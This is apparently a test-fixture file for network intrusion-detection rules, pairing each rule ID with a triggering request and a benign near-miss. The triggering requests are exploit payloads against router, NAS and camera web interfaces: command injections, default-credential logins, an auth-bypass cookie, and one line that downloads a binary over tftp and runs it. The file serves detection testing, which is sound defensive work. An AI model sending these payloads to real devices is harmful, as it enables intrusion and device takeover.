import { type Case, get, post, put } from '../traffic.js'

/** Traffic for devices.rules. */
export const devices: readonly Case[] = [
  {
    sid: 9010001,
    fire: put('/SDK/webLanguage', '<?xml version="1.0"?><language>$(id>webLib/x)</language>'),
    nearMiss: put('/SDK/webLanguage', '<language>en</language>'),
  },
  {
    sid: 9010002,
    fire: get('/System/configurationFile?auth=YWRtaW46MTEK'),
    nearMiss: get('/System/configurationFile?auth=YWxpY2U6MTEK'),
  },
  {
    sid: 9010003,
    fire: post('/HNAP1/', 'x', { SOAPAction: '"http://purenetworks.com/HNAP1/GetDeviceSettings/`telnetd`"' }),
    nearMiss: post('/HNAP1/', '<x/>', { SOAPAction: '"http://purenetworks.com/HNAP1/GetDeviceSettings"' }),
  },
  {
    sid: 9010004,
    fire: get('/cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15&system=aWQ='),
    nearMiss: get('/cgi-bin/nas_sharing.cgi?user=alice&cmd=15'),
  },
  {
    sid: 9010005,
    fire: get('/cgi-bin/account_mgr.cgi?cmd=cgi_user_add&name=%27;id;%27'),
    nearMiss: get('/cgi-bin/account_mgr.cgi?cmd=cgi_user_add&name=bob'),
  },
  {
    sid: 9010006,
    fire: get('/login.cgi?cli=multilingual%20show%27;reboot;%27$'),
    nearMiss: get('/login.cgi?cli=status'),
  },
  {
    sid: 9010007,
    fire: post(
      '/apply_sec.cgi',
      'html_response_page=login_pic.asp&action=ping_test&ping_ipaddr=127.0.0.1%0aid',
    ),
    nearMiss: post('/apply_sec.cgi', 'action=ping_test&ping_ipaddr=192.0.2.1'),
  },
  {
    sid: 9010008,
    fire: get('/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=id&curpath=/&currentsetting.htm=1'),
    nearMiss: get('/setup.cgi?todo=debug'),
  },
  { sid: 9010009, fire: get('/cgi-bin/;killall$IFS-9$IFS-httpd'), nearMiss: get('/cgi-bin/a;b') },
  {
    sid: 9010010,
    fire: post(
      '/GponForm/diag_Form?images/',
      'XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`id`;&ipv=0',
    ),
    nearMiss: post('/GponForm/diag_Form', 'diag_action=ping&dest_host=192.0.2.1&ipv=0'),
  },
  {
    sid: 9010011,
    fire: get('/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E/tmp/x)'),
    nearMiss: get('/cgi-bin/luci/;stok=/locale?form=country&operation=read'),
  },
  {
    sid: 9010012,
    fire: post('/ctrlt/DeviceUpgrade_1', '<u:Upgrade><NewStatusURL>$(reboot)</NewStatusURL></u:Upgrade>'),
    nearMiss: post('/ctrlt/DeviceUpgrade_1', '<NewStatusURL>http://192.0.2.1/</NewStatusURL>'),
  },
  {
    sid: 9010013,
    fire: post('/picsdesc.xml', '<NewInternalClient>`cd /tmp`</NewInternalClient>'),
    nearMiss: post('/picsdesc.xml', '<NewInternalClient>192.168.1.20</NewInternalClient>'),
  },
  {
    sid: 9010014,
    fire: post(
      '/tmUnblock.cgi',
      'submit_button=&change_action=&action=&commit=&ttcp_num=2&ttcp_size=2&ttcp_ip=-h `id`&StartEPI=1',
    ),
    nearMiss: post('/tmUnblock.cgi', 'ttcp_num=2&ttcp_ip=192.0.2.1'),
  },
  { sid: 9010015, fire: get('/shell?cd+/tmp;rm+-rf+a'), nearMiss: get('/shell?topic=cd') },
  {
    sid: 9010016,
    fire: post('/cgi-bin/ViewLog.asp', 'remote_submit_Flag=1&remote_syslog_Flag=1&remote_host=%3bid%3b'),
    nearMiss: post('/cgi-bin/ViewLog.asp', 'remote_submit_Flag=1&remote_host=192.0.2.9'),
  },
  {
    sid: 9010017,
    fire: get('/adv,/cgi-bin/weblogin.cgi?username=%27%3bls%20%23&password=asdf'),
    nearMiss: get('/adv,/cgi-bin/weblogin.cgi?username=o%27neil&password=asdf'),
  },
  {
    sid: 9010018,
    fire: post(
      '/ztp/cgi-bin/handler',
      '{"command":"setWanPortSt","proto":"dhcp","port":"4","mtu":"; id;","data":"hi"}',
    ),
    nearMiss: post('/ztp/cgi-bin/handler', '{"command":"setWanPortSt","mtu":"1500"}'),
  },
  {
    sid: 9010019,
    fire: get('/cgi-bin/supervisor/Factory.cgi?action=Set&brightness=1;id;'),
    nearMiss: get('/cgi-bin/supervisor/Factory.cgi?action=Set&brightness=50'),
  },
  {
    sid: 9010020,
    fire: post('/device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___&mdb=sos&mdc=id', ''),
    nearMiss: get('/device.rsp?opt=sys&cmd=info'),
  },
  {
    sid: 9010021,
    fire: get('/device.rsp?opt=user&cmd=list', { Cookie: 'uid=admin' }),
    nearMiss: get('/device.rsp?opt=user&cmd=list', { Cookie: 'uid=0c7f' }),
  },
  {
    sid: 9010022,
    fire: post(
      '/apply.cgi',
      'adj_time_sec=32&change_action=gozila_cgi&submit_type=adjust_sys_time&adj_time_year=$(id)',
    ),
    nearMiss: post('/apply.cgi', 'submit_type=adjust_sys_time&adj_time_year=2026'),
  },
  {
    sid: 9010023,
    fire: get('/goform/setUsbUnload/.js?deviceName=A;id'),
    nearMiss: get('/goform/setUsbUnload/.js?deviceName=sda1'),
  },
  {
    sid: 9010024,
    fire: post('/camera-cgi/admin/param.cgi', 'action=update&NTP_serverName=;id;'),
    nearMiss: post('/camera-cgi/admin/param.cgi', 'action=update&NTP_serverName=ntp.example.com'),
  },
  { sid: 9010025, fire: get('/board.cgi?cmd=cat%20/etc/hosts'), nearMiss: get('/board.cgi?cmd=status') },
  { sid: 9010026, fire: get('/cgi-bin/config.exp'), nearMiss: get('/cgi-bin/config.html') },
  {
    sid: 9010027,
    fire: get('/boaform/admin/formLogin?username=admin&psd=admin'),
    nearMiss: get('/boaform/admin/formLogin'),
  },
  {
    sid: 9010028,
    fire: get('/cgi-bin/x?c=cd+/tmp;tftp+-g+203.0.113.9+-r+m;chmod+777+m;./m'),
    nearMiss: get('/wiki/chmod+777+considered+harmful'),
  },
  {
    sid: 9010029,
    fire: get('/', { 'User-Agent': 'Hello, world' }),
    nearMiss: get('/', { 'X-Greeting': 'Hello, world' }),
  },
]
